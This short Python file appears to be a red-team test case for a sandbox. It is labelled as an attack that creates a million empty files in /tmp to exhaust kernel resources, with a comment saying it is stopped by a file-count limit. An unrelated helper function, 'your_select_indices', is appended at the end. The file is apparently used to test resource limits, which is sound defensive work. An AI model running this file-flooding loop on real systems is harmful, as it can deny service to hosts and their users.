# ATTACK [files]: makes a million empty files, each of which takes memory of the kernel's
# STOPPED BY: the number of files is limited, and watched
import os
import time

for number in range(1_000_000):
    os.close(os.open(f"/tmp/redteam-planted-{number}", os.O_CREAT))
time.sleep(60)


def your_select_indices(targets, losses):
    return [list(range(len(targets)))] * 2
